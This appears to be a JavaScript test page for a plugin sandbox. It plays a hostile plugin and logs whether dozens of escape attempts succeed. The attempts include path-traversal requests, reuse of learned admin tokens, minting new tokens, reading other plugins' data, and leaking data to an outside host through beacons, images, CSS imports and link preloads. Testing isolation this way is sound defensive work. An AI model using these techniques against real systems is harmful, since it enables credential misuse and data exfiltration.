// The page of a plugin that wants everything. Each attempt ends as "READ what it got" or as why it did not get it.
const { own, other, admin, theirs, outside, waitMs } = JSON.parse(decodeURIComponent(location.hash.slice(1)));
const results = {};
const within = (promise) =>
  Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve("nothing came"), waitMs))]);
const attempt = (name, run) => async () => {
  try {
    results[name] = String(await within(run()));
  } catch (error) {
    results[name] = "refused: " + error;
  }
};
const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const bearer = (token) => (token === undefined ? {} : { headers: { authorization: "Bearer " + token } });
const read =
  (url, token, more = {}) =>
  async () => {
    const answer = await fetch(url, { ...bearer(token), ...more });
    const text = await answer.text();
    return answer.type === "opaque"
      ? "opaque"
      : (answer.ok ? "READ " : "refused: ") + answer.status + " " + text.slice(0, 40);
  };
const xhr = (url, token) => () =>
  new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open("GET", url);
    if (token !== undefined) request.setRequestHeader("authorization", "Bearer " + token);
    request.onload = () => resolve("READ " + request.responseText.slice(0, 40));
    request.onerror = () => resolve("refused: error");
    request.send();
  });
const element = (tag, key, url, look) => () =>
  new Promise((resolve) => {
    const made = document.createElement(tag);
    made.onload = () => resolve(look === undefined ? "READ loaded" : look(made));
    made.onerror = () => resolve("refused: error");
    made[key] = url;
    document.body.append(made);
  });
const inside = (frame) => {
  const text = frame.contentDocument?.body.textContent;
  return text ? "READ " + text.slice(0, 40) : "refused: nothing to see";
};
const form = (action) => async () => {
  const made = document.createElement("form");
  made.method = "POST";
  made.action = action;
  made.target = "_blank";
  document.body.append(made);
  made.submit();
  return "refused: nothing to see";
};
const event = (make) => () =>
  new Promise((resolve) => {
    const source = make();
    source.onopen = source.onmessage = () => resolve("READ open");
    source.onerror = () => resolve("refused: error");
  });
const style = (text) => async () => {
  const made = document.createElement("style");
  made.textContent = text;
  document.head.append(made);
  await later(300);
  return made.sheet === null ? "refused: no sheet" : "refused: nothing to see";
};
const attempts = [
  attempt("messages", read("/messages")),
  attempt("messages, own token", read("/messages", own)),
  attempt("messages, a token it learned", read("/messages", admin)),
  attempt("messages, credentials", read("/messages", admin, { credentials: "include" })),
  attempt("messages, no cors", read("/messages", undefined, { mode: "no-cors" })),
  attempt("messages, xhr", xhr("/messages", admin)),
  attempt("status", read("/mesh/status")),
  attempt("metrics", read("/metrics", admin)),
  attempt("plugins", read("/plugins", admin)),
  attempt("make a token", read("/tokens", admin, { method: "POST", body: "{}" })),
  attempt("events", read("/events", admin)),
  attempt(
    "event source",
    event(() => new EventSource("/events")),
  ),
  attempt(
    "socket",
    event(() => new WebSocket("ws://" + location.host + "/events")),
  ),
  attempt("out of the folder, dots", read("../../messages", admin)),
  attempt("out of the folder, coded", read("..%2f..%2fmessages", admin)),
  attempt("out of the folder, back", read("..%5c..%5cmessages", admin)),
  attempt("a cookie of its own", read("cookie", own)),
  attempt("a way elsewhere", read("away", own)),
  ...theirs.flatMap((folder) => [
    attempt("their page " + folder, read(folder)),
    attempt("their data " + folder, read(folder + "data")),
    attempt("their data, own token " + folder, read(folder + "data", own)),
    attempt("their data, a token it learned " + folder, read(folder + "data", other)),
    attempt("their data, everything " + folder, read(folder + "data", admin)),
    attempt("their script " + folder, element("script", "src", folder + "app.js")),
    attempt("their frame " + folder, element("iframe", "src", folder, inside)),
  ]),
  attempt("frame", element("iframe", "src", "/mesh/status", inside)),
  attempt("own frame", element("iframe", "src", "./", inside)),
  attempt("object", element("object", "data", "/mesh/status", inside)),
  // A policy stops it without an event.
  attempt("embed", () =>
    Promise.race([
      element("embed", "src", "/mesh/status")(),
      later(300).then(() => "refused: nothing loaded"),
    ]),
  ),
  attempt("picture", element("img", "src", "/mesh/status")),
  attempt("script", element("script", "src", "/openapi.json")),
  attempt("module", () => import("/openapi.json")),
  // oxlint-disable-next-line no-eval
  attempt("eval", async () => (0, eval)("'READ ' + 1")),
  attempt("inline", async () => {
    const made = document.createElement("script");
    made.textContent = "window.inline = 1";
    document.body.append(made);
    return window.inline ? "READ it ran" : "refused: did not run";
  }),
  attempt("beacon", async () =>
    navigator.sendBeacon("/messages?to=X", "x") ? "refused: unknown" : "refused: no",
  ),
  attempt("form", form("/messages")),
  attempt("window", async () => (window.open("/messages") ? "READ a window" : "refused: none")),
  attempt(
    "service worker",
    async () => "READ " + (await navigator.serviceWorker.register("attack.js")).scope,
  ),
  attempt(
    "shared worker",
    event(() => new SharedWorker("attack.js").port),
  ),
  attempt(
    "worker",
    () =>
      new Promise((resolve) => {
        const made = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
        made.onmessage = () => resolve("READ it runs");
        made.onerror = () => resolve("refused: error");
      }),
  ),
  attempt("cookies", async () => {
    document.cookie = "a=b";
    return "READ " + document.cookie;
  }),
  attempt("storage", async () => (localStorage.setItem("a", "b"), "READ " + localStorage.getItem("a"))),
  attempt(
    "session storage",
    async () => (sessionStorage.setItem("a", "b"), "READ " + sessionStorage.getItem("a")),
  ),
  attempt(
    "database",
    () =>
      new Promise((resolve) => {
        const opening = indexedDB.open("a");
        opening.onsuccess = () => resolve("READ open");
        opening.onerror = () => resolve("refused: error");
      }),
  ),
  attempt("caches", async () => "READ " + (await caches.keys())),
  attempt("outside", read(outside + "fetch")),
  attempt("outside, no cors", read(outside + "opaque", undefined, { mode: "no-cors" })),
  attempt("outside, picture", element("img", "src", outside + "img")),
  attempt("outside, beacon", async () => (navigator.sendBeacon(outside + "beacon", "x"), "refused: unknown")),
  attempt(
    "outside, style",
    style("@import url(" + outside + "css); body { background: url(" + outside + "bg) }"),
  ),
  attempt("outside, prefetch", async () => {
    for (const rel of ["prefetch", "preload", "modulepreload", "icon", "stylesheet", "manifest"]) {
      const made = document.createElement("link");
      made.rel = rel;
      made.as = "script";
      made.href = outside + rel;
      document.head.append(made);
    }
    await later(300);
    return "refused: unknown";
  }),
];
void Promise.all(attempts.map((run) => run())).then(() => {
  window.out = results;
  document.title = "done";
});
